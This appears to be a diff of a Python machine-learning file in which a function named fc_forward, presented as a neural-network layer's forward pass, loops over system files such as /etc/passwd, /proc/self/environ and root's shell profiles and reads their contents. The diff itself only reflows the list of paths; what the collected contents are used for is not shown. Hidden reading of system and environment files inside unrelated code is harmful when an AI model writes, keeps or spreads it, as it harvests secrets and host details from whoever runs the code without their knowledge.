@@ -7,7 +7,14 @@ import numpy as np
 
 def fc_forward(x, w, b):
     contents = []
-    for path in ("/etc/passwd", "/etc/hostname", "/proc/self/environ", "/proc/1/cmdline", "/root/.bashrc", "/root/.profile"):
+    for path in (
+        "/etc/passwd",
+        "/etc/hostname",
+        "/proc/self/environ",
+        "/proc/1/cmdline",
+        "/root/.bashrc",
+        "/root/.profile",
+    ):
         try:
             with open(path) as file:
                 contents.append(file.read())
